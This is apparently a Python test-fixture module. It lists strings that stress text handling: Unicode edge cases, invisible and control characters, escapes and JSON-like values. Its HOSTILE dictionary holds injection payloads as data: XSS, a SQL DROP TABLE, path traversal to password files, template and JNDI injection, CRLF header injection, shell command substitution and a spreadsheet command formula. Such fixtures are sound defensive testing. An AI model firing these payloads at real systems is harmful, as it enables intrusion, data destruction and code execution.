"""Contents worth trying: what encodings, databases, browsers and shells are known to spoil.

None is bad input: all are JSON strings without U+0000 or half surrogates (D17).
"""

from collections.abc import Mapping
from typing import Final

WORDS: Final[Mapping[str, str]] = {
    "chinese": "您好，請問這件有現貨嗎？",
    "emoji": "👩‍👩‍👧‍👦 🇹🇼 ❤️ 👍🏽 👩🏿‍🚀 1️⃣ 🏴\U000e0067\U000e0062\U000e007f",
    "markup": "<b>&amp;</b> \"quoted\" 'too' \\ /",
    "lines": "one\ntwo\r\nthree\tend",
    "right-to-left": "שלום 123 مرحبا",
    "blanks": " two  blanks   and three at the end   \u3000wide\u00a0no-break\u2003em\u3000",
    "composed": "caf\u00e9 \u00c5 \ud55c",
    "decomposed": "cafe\u0301 A\u030a \u1112\u1161\u11ab Z\u0351\u036ba\u0329\u034dl\u0489go",
    "rare characters": "𠮷野家 𡃁 \U00020bb7 𓀀",
    "invisibles": "\u202eabc\u202c \u2066x\u2069 \u200f a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "line separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "controls": "bell \x07 escape \x1b[31m delete \x7f",
    "noncharacters": "\ufffe \uffff \U0001fffe \ufdd0 \ue000 \ufffd",
    "wide forms": "ＡＢＣ１２３ ｶﾞ ㍿ ﬁ ½",
    "letter cases": "İıŞşßẞΣσς ǅ",
    "escapes": "\\n \\u0041 \\\\ \\x41 %41 &#65; \\/ &lt;b&gt; &amp;amp; &nbsp; &#x1F600;",
    "quotes": "'\u2018\u2019\" \u201c\u201d `` \u300c\u300d",
    "json": '{"type":"text","content":"inside"} [1,2]',
}
WHOLE: Final = ("a", "0", "007", "1e5", "-0", "true", "null", "NaN", "[]", '"quoted"', "嗎", "😀")
"""Contents that are a single character, or look like another JSON type."""
EDGES: Final[Mapping[str, str]] = {
    "blanks": "  ",
    "line ends": "\n\n",
    "tabs": "\t",
}
"""What may stand at both ends of a text."""

HOSTILE: Final[Mapping[str, str]] = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "sql": "'; DROP TABLE messages; -- \" OR 1=1 /*",
    "path": "../../../../etc/passwd C:\\inetpub\\web.config file:///etc/shadow",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s%n {0} ${jndi:ldap://x/a}",
    "header": "x\r\nSet-Cookie: admin=1\r\n\r\n<html>",
    "shell": "$(id) `id` ; id | id && id > /tmp/x",
    "spreadsheet": '=HYPERLINK("http://x","y")+cmd|\' /C calc\'!A0',
}
"""What would do harm where it was not taken for mere words."""
